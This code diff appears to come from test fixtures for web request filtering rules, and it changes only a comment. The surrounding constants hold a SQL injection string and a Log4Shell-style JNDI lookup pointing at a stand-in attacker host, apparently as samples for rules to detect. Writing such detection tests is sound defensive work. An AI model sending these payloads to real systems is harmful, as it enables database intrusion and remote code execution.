@@ -6,7 +6,7 @@ const FORM = "application/x-www-form-urlencoded";
 const MULTIPART = "multipart/form-data; boundary=X";
 const DISPOSITION = "Content-Disposition: form-data; ";
 
-/** What the rules know, written as a form has it and as it is. */
+/** A known attack, encoded as in a form and plain. */
 export const ATTACK = "1' UNION SELECT null,null-- ";
 const ENCODED = encodeURIComponent(ATTACK);
 const JNDI = "${jndi:ldap://evil.example/a}";
